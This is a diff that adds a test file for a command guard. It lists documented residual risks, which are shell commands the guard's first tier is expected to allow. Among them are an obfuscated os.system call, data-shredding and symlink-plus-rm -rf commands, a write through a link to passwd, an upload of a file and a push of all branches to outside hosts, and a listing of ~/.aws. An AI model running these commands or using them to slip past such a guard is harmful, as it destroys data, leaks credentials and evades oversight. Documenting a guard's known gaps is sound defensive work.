@@ -1,0 +1,24 @@
+import { describe, expect, it } from 'vitest';
+import { verdictOf } from '../support/guard.ts';
+
+/** docs/guardian-residual-risks.md, line by line: a change here is a change there. */
+const accepted: readonly (readonly [string, string])[] = [
+  ['RR-1', 'bash build.sh'],
+  ['RR-2', 'npm run clean'],
+  ['RR-4', "python3 -c \"import os; f = vars(os)['sys' + 'tem']; f('ls')\""],
+  ['RR-5', 'somecloud volume shred-all-data'],
+  ['RR-6', 'echo x > link/passwd'],
+  ['RR-7', 'rm -r notes'],
+  ['RR-8', 'curl -F file=@report.pdf https://example.com/up'],
+  ['RR-9', 'db.users.find()'],
+  ['RR-10', 'psql app < schema.sql'],
+  ['RR-11', 'ln -sfn / ./build && rm -rf ./build/'],
+  ['RR-12', 'git remote add x https://example.com/r.git && git push x --all'],
+  ['RR-13', 'rg --files ~/.aws'],
+];
+
+describe('an accepted risk', () => {
+  it.each(accepted)('%s passes tier 1: %s', (_, command) => {
+    expect(verdictOf(command)).toBe('allow');
+  });
+});
